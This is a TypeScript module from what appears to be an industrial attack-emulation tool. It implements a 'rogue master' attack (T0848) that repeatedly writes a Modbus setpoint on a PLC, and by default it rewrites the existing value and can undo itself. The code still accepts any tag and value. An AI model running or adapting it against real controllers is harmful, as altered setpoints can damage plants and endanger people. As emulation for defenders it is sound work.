// T0848 Rogue Master: a foreign master writes a setpoint again and again. By default it writes what stands there already:
// the plant does not move, and only the traffic tells.
import { z } from 'zod'
import { ModbusDesk } from '../plc/modbus-desk.ts'
import type { Attack } from './attack.ts'
import { takeHold } from './hold.ts'
import { answered, KeptLink } from './kept-link.ts'
import { TargetTag, TargetValue } from './target.ts'
import { usualTag } from './usual-tag.ts'

const Parameters = z.strictObject({
  tag: TargetTag('setpoint', 'command').optional().describe('What is written; by default the first setpoint of the PLC.'),
  value: TargetValue().optional().describe('The value that is written, in the unit of the tag; by default the one that it found.'),
  everySeconds: z.number().min(1).max(3600).default(7).describe('After how many seconds it writes again.')
})

export const rogueWrite = {
  name: 'rogue-write',
  title: { zh: '非法主站写入', en: 'Writes of a rogue master' },
  technique: 'T0848',
  parameters: Parameters,
  async aim(foothold, { tag, value, everySeconds }) {
    const target = tag ?? usualTag(foothold.map, 'setpoint')
    const hold = await takeHold(foothold)
    const before = hold.before(target)
    const link = await KeptLink.open(foothold)
    const desk = new ModbusDesk({ map: foothold.map, link })
    hold.keep(target)
    let struck = false
    return {
      ...{ tags: [target], hosts: [link.host], insistSeconds: everySeconds },
      async strike() {
        if (struck) return void (await answered(() => desk.write({ [target]: value ?? before })))
        await desk.write({ [target]: value ?? before })
        struck = true
      },
      async undo() {
        await link.cut()
        await hold.putBack()
      }
    }
  }
} satisfies Attack<typeof Parameters>
